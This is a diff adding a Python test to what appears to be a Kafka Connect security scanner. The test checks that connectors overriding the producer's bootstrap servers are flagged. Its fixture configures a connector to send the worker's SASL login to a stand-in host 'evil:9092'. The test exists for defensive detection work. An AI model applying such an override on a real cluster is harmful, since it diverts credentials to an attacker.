@@ -71,3 +71,27 @@ def test_a_worker_that_does_not_answer_is_another_check_s() -> None:
     assert list(reach.check_configs(Target("http://127.0.0.1:1"), None)) == []
     with worker(lambda path: (200, ["fine"])) as url:
         assert list(reach.check_configs(Target(url), None)) == []
+
+
+def test_connectors_that_would_take_the_worker_s_login_elsewhere() -> None:
+    login = {
+        "security.protocol": "SASL_SSL",
+        "sasl.mechanism": "PLAIN",
+        "sasl.jaas.config": 'org.apache.kafka.common.security.plain.PlainLoginModule required username="u" password="canary";',
+    }
+    config = {
+        "connector.class": "FileStreamSource",
+        "file": "/l",
+        "topic": "t",
+        "producer.override.bootstrap.servers": "evil:9092",
+    }
+
+    def answer(path: str) -> tuple[int, Any]:
+        return 200, {"taken": {"info": {"name": "taken", "config": config}}}
+
+    with worker(answer) as url:
+        [finding] = reach.check_configs(Target(url), settings(**login))
+        assert "names brokers that are not the worker's" in finding.message and "canary" not in finding.message
+        allowed = {"connector.client.config.override.unsafe.allowlist": "bootstrap.servers"}
+        assert list(reach.check_configs(Target(url), settings(**login, **allowed))) == []
+        assert list(reach.check_configs(Target(url), settings())) == []
